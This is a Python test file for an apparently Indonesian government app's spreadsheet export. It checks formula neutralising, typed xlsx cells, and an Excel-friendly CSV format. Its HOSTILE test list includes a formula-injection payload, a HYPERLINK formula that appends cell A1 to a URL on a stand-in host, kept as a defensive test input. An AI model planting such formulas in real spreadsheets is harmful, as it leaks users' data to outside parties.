"""Writing sheets: formula neutralising, real dates and numbers in .xlsx, and a
CSV that Excel opens (BOM, ';', decimal comma). No database needed."""
import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from rbtasks.spreadsheets.columns import COLUMNS, field_for_header
from rbtasks.spreadsheets.writing import csv_chunks, neutralise, unneutralise, write_xlsx

HOSTILE = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+62 812 3456 7890", "-1",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Menyusun SOP pelayanan", "Rp 15.000.000", "12,5%", "",
                                  "Oktavianus Pello, S.H., M.H.", "'kutipan biasa", "a=b"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text
    assert unneutralise(text) == text


def _row(**values):
    row = {column.field: None for column in COLUMNS}
    row.update(no=1, title="Menyusun SOP perizinan terpadu", owner="Oktavianus Pello, S.H., M.H.",
               agency="Dinas Penanaman Modal dan PTSP", budget=15_000_000,
               due_date=date(2026, 12, 31), tw1_target=Decimal("10.00"),
               tw1_realisation=Decimal("12.50"), progress=45, status="Berjalan")
    row.update(values)
    return row


def _sheet(rows, bare_app):
    stream = io.BytesIO()
    with bare_app.test_request_context():
        count = write_xlsx(rows, COLUMNS, stream, sheet_title="Rencana Aksi")
    return count, load_workbook(io.BytesIO(stream.getvalue())).active


@pytest.fixture(scope="module")
def bare_app():
    """An app for the language of the headers; no database is opened."""
    from config import TestConfig
    from rbtasks import create_app

    return create_app(TestConfig)


def test_xlsx_has_typed_cells_and_formats(bare_app):
    count, sheet = _sheet([_row(), _row(no=2, title="Reviu proses bisnis", budget=None)], bare_app)
    assert count == 2
    headers = [cell.value for cell in sheet[1]]
    assert [field_for_header(text) for text in headers] == [c.field for c in COLUMNS]
    values = dict(zip([c.field for c in COLUMNS], sheet[2]))
    assert values["due_date"].value.date() == date(2026, 12, 31)
    assert values["due_date"].number_format == "dd/mm/yyyy"
    assert values["budget"].value == 15_000_000 and values["budget"].data_type == "n"
    assert values["budget"].number_format == '"Rp "#,##0'
    assert values["tw1_target"].value == 10 and values["tw1_realisation"].value == 12.5
    assert values["progress"].value == 45
    assert values["owner"].value == "Oktavianus Pello, S.H., M.H."
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(COLUMNS)).column_letter}3"
    assert sheet.cell(3, 1).value == 2 and sheet.title == "Rencana Aksi"


def test_xlsx_never_holds_a_formula(bare_app):
    rows = [_row(no=n, title=text, output=text) for n, text in enumerate(HOSTILE, start=1)]
    _count, sheet = _sheet(rows, bare_app)
    title_column = [c.field for c in COLUMNS].index("title") + 1
    for number, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(number, title_column)
        # The stdlib's XML writer folds a carriage return into a line feed
        # (lxml, when installed, keeps it): either way text, never a formula.
        assert cell.data_type == "s" and cell.value in ("'" + text,
                                                        "'" + text.replace("\r", "\n"))
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_drops_characters_a_worksheet_cannot_hold(bare_app):
    _count, sheet = _sheet([_row(title="Rapat\x0b koordinasi\x00")], bare_app)
    assert sheet.cell(2, 3).value == "Rapat koordinasi"


def _csv(rows, bare_app):
    with bare_app.test_request_context():
        return b"".join(csv_chunks(rows, COLUMNS))


def test_csv_is_utf8_with_bom_semicolons_and_decimal_commas(bare_app):
    data = _csv([_row(tw1_realisation=Decimal("12.50"), title="Évaluasi — “SAKIP”")], bare_app)
    assert data.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert len(lines) == 2 and len(lines[0]) == len(COLUMNS)
    values = dict(zip([c.field for c in COLUMNS], lines[1]))
    assert values["owner"] == "Oktavianus Pello, S.H., M.H."
    assert values["title"] == "Évaluasi — “SAKIP”"
    assert values["due_date"] == "31/12/2026"
    assert values["budget"] == "15000000"
    assert values["tw1_target"] == "10" and values["tw1_realisation"] == "12,5"
    assert values["tw2_target"] == "" and values["progress"] == "45"


def test_csv_neutralises_text_but_not_numbers(bare_app):
    data = _csv([_row(title=text, target=text) for text in HOSTILE], bare_app)
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))[1:]
    fields = [c.field for c in COLUMNS]
    assert [line[fields.index("title")] for line in lines] == ["'" + text for text in HOSTILE]
    assert {line[fields.index("budget")] for line in lines} == {"15000000"}


def test_csv_keeps_a_multiline_cell_in_one_field(bare_app):
    data = _csv([_row(evidence="https://ntt.go.id/rb/notulen\nfoto-rapat.jpg")], bare_app)
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert lines[1][[c.field for c in COLUMNS].index("evidence")] == (
        "https://ntt.go.id/rb/notulen\nfoto-rapat.jpg")


def test_csv_streams_in_chunks(bare_app):
    with bare_app.test_request_context():
        chunks = list(csv_chunks((_row(no=n) for n in range(1, 501)), COLUMNS))
    assert len(chunks) == 3  # 200 + 200 + 100 rows (+ header in the first)
    assert sum(chunk.count(b"\r\n") for chunk in chunks) == 501
